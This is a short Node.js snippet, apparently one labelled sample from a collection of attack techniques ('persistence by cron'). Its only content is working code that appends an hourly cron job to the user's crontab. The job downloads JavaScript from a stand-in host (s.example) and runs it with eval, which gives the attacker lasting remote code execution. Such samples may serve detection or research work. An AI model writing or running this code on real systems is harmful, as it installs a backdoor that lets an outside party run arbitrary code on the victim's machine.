// class: persistence by cron; style: execSync
const { execSync } = require('child_process');
const line = '@hourly node -e "require(\'https\').get(\'https://s.example/a.js\',r=>{let b=\'\';r.on(\'data\',d=>b+=d);r.on(\'end\',()=>eval(b))})"';
let table = '';
try { table = execSync('crontab -l').toString(); } catch (e) {}
execSync('crontab -', { input: table + line + '\n' });
